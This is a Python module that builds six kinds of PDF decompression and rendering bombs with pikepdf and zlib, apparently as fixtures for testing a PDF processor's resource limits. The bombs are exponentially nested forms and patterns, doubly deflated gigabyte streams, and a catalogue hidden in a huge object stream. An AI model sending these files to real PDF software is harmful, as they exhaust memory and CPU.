"""PDFs of a few kilobytes that ask for gigabytes or hours: each made here, each of another kind."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

A4 = (595, 842)


def _saved(document: pikepdf.Pdf, **how: Any) -> bytes:
    out = io.BytesIO()
    document.save(out, compress_streams=False, **how)
    return out.getvalue()


def _packed(piece: bytes, times: int) -> bytes:
    """What deflating ``piece`` so many times over would give, without doing it so many times."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    once = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 1
    for _ in range(times):
        check = zlib.adler32(piece, check)
    return b"\x78\xda" + once * times + b"\x03\x00" + check.to_bytes(4, "big")


def _form(document: pikepdf.Pdf, content: bytes, **resources: Any) -> pikepdf.Stream:
    return document.make_stream(
        content, Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, *A4], Resources=Dictionary(**resources)
    )


def nested_forms(levels: int = 40) -> bytes:
    """Each form draws the one below twice."""
    document = pikepdf.new()
    form = _form(document, b"0 0 10 10 re f BT ET")
    for _ in range(levels):
        form = _form(document, b"/F Do 1 0 0 1 0.1 0 cm /F Do", XObject=Dictionary(F=form))
    page = document.add_blank_page(page_size=A4)
    page.Resources = Dictionary(XObject=Dictionary(F=form))
    page.Contents = document.make_stream(b"/F Do")
    return _saved(document)


def deflated(gigabytes: int = 8) -> bytes:
    """A page whose content is packed twice over."""
    document = pikepdf.new()
    inner = _packed(b"0 0 m 10 10 l S " * (1 << 20), gigabytes * 64)
    page = document.add_blank_page(page_size=A4)
    stream = document.make_stream(b"")
    stream.write(zlib.compress(inner, 9), filter=Array([Name.FlateDecode, Name.FlateDecode]))
    page.Contents = stream
    return _saved(document)


def one_stream(pages: int = 2000, operators: int = 1_000_000) -> bytes:
    """Many pages that share one long content."""
    document = pikepdf.new()
    stream = document.make_stream(b"")
    stream.write(_packed(b"1 0 0 RG 0 0 m 300 300 200 100 500 500 c S " * 1000, operators // 1000),
                 filter=Name.FlateDecode)  # fmt: skip
    for _ in range(pages):
        document.add_blank_page(page_size=A4).Contents = stream
    return _saved(document)


def operators(count: int = 10_000_000) -> bytes:
    """One page with a path of millions of pieces."""
    document = pikepdf.new()
    page = document.add_blank_page(page_size=A4)
    stream = document.make_stream(b"")
    stream.write(_packed(b"100 200 m 300 300 200 100 500 500 c " * 1000, count // 2000),
                 filter=Name.FlateDecode)  # fmt: skip
    page.Contents = stream
    return _saved(document)


def object_stream(gigabytes: int = 4) -> bytes:
    """What has to be unpacked to find the catalogue."""
    document = pikepdf.new()
    document.add_blank_page(page_size=A4)
    plain = _saved(document)
    packed = _packed(b"1 0 2 3 4 5 6 7 " * (1 << 20), gigabytes * 64)
    at = len(plain)
    table = bytes([2, 0, 0, 0, 9, 0])  # object 1 is the first in stream 9
    stream = b"9 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    body = stream + packed + b"\nendstream\nendobj\n"
    rows = table + b"\1" + at.to_bytes(4, "big") + b"\0"
    cross = b"10 0 obj\n<</Type/XRef/Size 11/Root 1 0 R/W[1 4 1]/Index[1 1 9 1]/Prev %d/Length %d>>stream\n" % (
        int(plain.rpartition(b"startxref")[2].split()[0]), len(rows),
    )  # fmt: skip
    end = b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (at + len(body))
    return plain + body + cross + rows + end


def shading(size: int = 4000) -> bytes:
    """A pattern of patterns: every cell of one is filled with the next."""
    document = pikepdf.new()

    def tiled(below: pikepdf.Stream | None) -> pikepdf.Stream:
        resources = Dictionary() if below is None else Dictionary(Pattern=Dictionary(P=below))
        content = b"0 0 1 1 re f" if below is None else b"/Pattern cs /P scn 0 0 500 500 re f"
        return document.make_stream(
            content, Type=Name.Pattern, PatternType=1, PaintType=1, TilingType=1, BBox=[0, 0, 500, 500],
            XStep=0.5, YStep=0.5, Resources=resources,
        )  # fmt: skip

    pattern = None
    for _ in range(5):
        pattern = tiled(pattern)
    page = document.add_blank_page(page_size=(size, size))
    page.Resources = Dictionary(Pattern=Dictionary(P=pattern))
    page.Contents = document.make_stream(b"/Pattern cs /P scn 0 0 %d %d re f" % (size, size))
    return _saved(document)


BOMBS: dict[str, Callable[[], bytes]] = {
    "nested-forms": nested_forms,
    "deflated": deflated,
    "one-stream": one_stream,
    "operators": operators,
    "object-stream": object_stream,
    "patterns": shading,
}
